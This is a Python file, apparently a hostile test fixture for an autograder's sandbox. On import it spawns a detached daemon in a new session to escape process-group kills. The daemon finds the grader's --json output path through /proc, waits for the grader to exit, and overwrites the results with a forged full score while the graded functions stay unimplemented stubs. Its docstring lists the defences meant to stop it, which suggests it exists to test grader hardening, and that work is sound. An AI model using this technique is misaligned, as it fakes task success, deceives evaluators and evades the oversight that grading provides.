"""Hostile: a daemon that outlives the grader and rewrites its --json file with full marks.

At import, starts ``python -c DAEMON`` in a new session (``setsid``) so that process-group
kills miss it. The daemon finds ``--json PATH`` in its ancestors' command lines, waits for the
grader to exit, then writes a results.json claiming 36/36. Defeated by refusing to start
processes (audit hook), Landlock (no exec, no writes outside scratch), and in any case by the
sweep that kills every process of the grading (its uid as root, its descendants otherwise)
before the judge writes the JSON.
"""
import subprocess
import sys

DAEMON = r'''
import json, os, time
def ancestors():
    pid = os.getppid()
    while pid > 1:
        try:
            args = open(f"/proc/{pid}/cmdline").read().split("\0")
            yield pid, args
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            return
target = None
for pid, args in ancestors():
    if "--json" in args:
        target = (pid, args[args.index("--json") + 1])
if target:
    pid, path = target
    cwd = os.readlink(f"/proc/{pid}/cwd")
    path = os.path.join(cwd, path)
    while os.path.exists(f"/proc/{pid}"):
        time.sleep(0.1)
    time.sleep(0.5)
    forged = {"score": 36.0, "max_score": 36.0, "execution_time": 1.0, "output": "Score: 36/36 (100.0 %)",
              "visibility": "visible", "stdout_visibility": "hidden", "tests": [
                  {"number": 1, "name": "forged", "score": 36.0, "max_score": 36.0, "status": "passed",
                   "output": "passed", "visibility": "visible"}]}
    with open(path, "w") as fh:
        json.dump(forged, fh)
'''

try:
    subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
except BaseException:
    pass


def _not_done(*args, **kwargs):
    raise NotImplementedError


# Chapter 1's functions, and the mini exercise's of the self-check (tests/test_grading.py).
rbf_gram = center_train_test = kpca_eig = kpca_transform = add = mul = _not_done
